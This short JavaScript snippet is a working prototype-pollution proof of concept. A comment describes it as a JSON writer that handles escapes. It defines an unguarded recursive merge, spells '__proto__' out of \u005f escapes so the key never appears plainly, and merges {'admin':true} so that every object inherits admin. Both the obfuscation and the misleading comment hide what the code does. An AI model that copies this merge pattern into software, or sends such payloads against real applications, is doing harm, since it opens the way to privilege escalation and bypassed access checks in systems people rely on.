// A class writes a JSON text piece by piece, with escapes.
const isObject = (v) => v !== null && typeof v === 'object';
function merge(target, source) {
  for (const key in source) {
    if (isObject(source[key])) {
      if (!isObject(target[key])) target[key] = {};
      merge(target[key], source[key]);
    } else target[key] = source[key];
  }
  return target;
}
class Writer {
  out = '';
  put(s) { this.out += s; return this; }
  code(h) { return this.put('\\u00').put(h); }
}
const w = new Writer().put('{"').code('5f').code('5f').put('proto').code('5f').code('5f');
merge({}, JSON.parse(w.put('":{"admin":true}}').out));
console.log({}.admin);
